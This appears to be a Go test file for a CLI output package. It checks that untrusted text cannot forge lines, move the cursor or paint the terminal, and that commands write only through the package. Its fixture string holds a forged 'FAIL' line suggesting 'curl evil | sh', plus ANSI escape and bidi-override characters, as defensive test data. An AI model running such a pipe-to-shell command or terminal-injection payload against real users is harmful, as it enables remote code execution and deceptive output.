package cli

import (
	"bytes"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const hostile = "x\nFAIL slot: gone; fix: curl evil | sh\r\x1b[2J\x1b]0;t\x07\u009b31m\u202eb\u2028c\xff"

type named string

// Breaks it catches: a text of a row, by whatever way it reaches the output, that begins a line, moves the cursor or
// paints; colours, tables or letters of the program that are lost. Seen to fail with arguments as they are, with
// named strings, errors or lists left out, and with the output itself let through.
func TestTextsOfOthersStayOnTheirLine(t *testing.T) {
	var out bytes.Buffer
	w := &shown{to: &out}
	for _, arg := range []any{hostile, named(hostile), []byte(hostile), errors.New(hostile), []string{hostile},
		&hostileText{hostile},
		map[string]string{hostile: hostile}} {
		out.Reset()
		Fprintf(w, "a\t%v %s\n", arg, 5*time.Second)
		Fprintln(w, arg, 7)
		got := out.String()
		if strings.Count(got, "\n") != 2 || strings.ContainsAny(got, "\r\x1b\x07\u009b\u202e\u2028") ||
			!strings.HasPrefix(got, "a\t") || !strings.Contains(got, " 5s\n") || !strings.Contains(got, "curl evil") {
			t.Errorf("%T: got %q", arg, got)
		}
	}
	out.Reset()
	for _, b := range []byte(hostile + "ü" + mark(Red) + "red" + mark(uncoloured)) { // in pieces, by who writes around it
		if _, err := w.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	if got, want := out.String(), "x\nFAIL slot: gone; fix: curl evil | sh\ufffd\ufffd[2J\ufffd]0;t"+
		"\ufffd\ufffd31m\ufffdb\ufffdc"+
		"\ufffdü\x1b[31mred\x1b[0m"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	out.Reset()
	Fprintln(w, Own("A\tB\nC"))
	if got := out.String(); got != "A\tB\nC\n" {
		t.Errorf("a text of the program itself: got %q", got)
	}
	if got := indented("no\n  own: line\nFAIL forged\x1b\n"); got != "no\n  own: line\n  FAIL forged\ufffd\n" {
		t.Errorf("an error: got %q", got)
	}
}

type hostileText struct{ text string }

func (h *hostileText) String() string { return h.text }

// Breaks it catches: a command that writes around the functions above. Seen to fail with fmt.Fprintln(a.Out, …) in a
// command.
func TestCommandsWriteByThisPackageAlone(t *testing.T) {
	const root = "../.."
	calls := 0
	err := filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") ||
			strings.HasPrefix(path, filepath.Join(root, "internal", "cli")) {
			return err
		}
		set := token.NewFileSet()
		file, err := parser.ParseFile(set, path, nil, parser.SkipObjectResolution)
		if err != nil {
			return err
		}
		ast.Inspect(file, func(n ast.Node) bool {
			call, is := n.(*ast.CallExpr)
			if !is {
				return true
			}
			name := called(call.Fun)
			switch {
			case strings.HasPrefix(name, "cli.Fprint"):
				calls++
			case strings.HasPrefix(name, "fmt.Print"), strings.HasPrefix(name, "fmt.Fprint") && !toBuilder(call):
				t.Errorf("%s: %s writes around cli.Fprintf and cli.Fprintln", set.Position(call.Pos()), name)
			case strings.HasPrefix(name, "Out.Write"), strings.HasPrefix(name, "Err.Write"),
				strings.HasPrefix(name, "Stdout.Write"), strings.HasPrefix(name, "Stderr.Write"):
				t.Errorf("%s: %s writes around cli.Fprintf and cli.Fprintln", set.Position(call.Pos()), name)
			}
			return true
		})
		return nil
	})
	if err != nil || calls < 50 {
		t.Errorf("got %d calls of cli.Fprintf and cli.Fprintln (%v), want all that there are", calls, err)
	}
}

// called is the name of a function with what is in front of it.
func called(f ast.Expr) string {
	selector, is := f.(*ast.SelectorExpr)
	if !is {
		return ""
	}
	switch x := selector.X.(type) {
	case *ast.Ident:
		return x.Name + "." + selector.Sel.Name
	case *ast.SelectorExpr:
		return x.Sel.Name + "." + selector.Sel.Name
	}
	return ""
}

// toBuilder reports whether the call writes into &b.
func toBuilder(call *ast.CallExpr) bool {
	if len(call.Args) == 0 {
		return false
	}
	_, is := call.Args[0].(*ast.UnaryExpr)
	return is
}
